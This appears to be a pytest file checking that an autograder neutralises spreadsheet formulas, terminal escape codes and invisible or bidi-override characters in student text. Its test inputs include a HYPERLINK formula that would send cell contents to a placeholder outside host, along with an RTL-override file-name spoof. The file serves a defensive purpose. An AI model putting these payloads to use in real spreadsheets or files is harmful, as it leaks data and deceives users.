"""Text that a student wrote does nothing in a spreadsheet, a terminal or a log."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.outputs import cell, visible

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1;"grades")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1",  # noqa: RUF001 — the point of this test
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(A1)",  # noqa: RUF001
    "\ufe661",
    "\u3000=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell(text).startswith("'")


@pytest.mark.parametrize("text", ["陳敬中", "313551157", "a=b", "O'Neil", "", "José"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert text == cell(text)


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("\x1b[31mred", "\\u001B[31mred"),
        ("\x9b31m", "\\u009B31m"),
        ("a\nb\r\tc\0", "a\\u000Ab\\u000D\\u0009c\\u0000"),
        ("exe\u202egpj.py", "exe\\u202Egpj.py"),
        ("\u2066\u2069\u200e\u061c", "\\u2066\\u2069\\u200E\\u061C"),
        ("\u2028\u2029", "\\u2028\\u2029"),
        ("\udcff", "\\uDCFF"),
        ("\U000e0041", "\\U000E0041"),
        ("zero\u200bwidth\ufeff", "zero\\u200Bwidth\\uFEFF"),
        ("林　大\u3000明 é e\u0301", "林　大\u3000明 é e\u0301"),
    ],
)
def test_what_acts_and_shows_nothing_is_spelled_out(text: str, seen: str) -> None:
    assert seen == visible(text)


@given(st.text(alphabet=st.characters()))
def test_nothing_that_acts_is_left_in_any_text(text: str) -> None:
    shown = cell(text)
    assert not {unicodedata.category(c) for c in shown} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert not shown.startswith(tuple("=+-@＝＋－＠"))  # noqa: RUF001
    shown.encode()
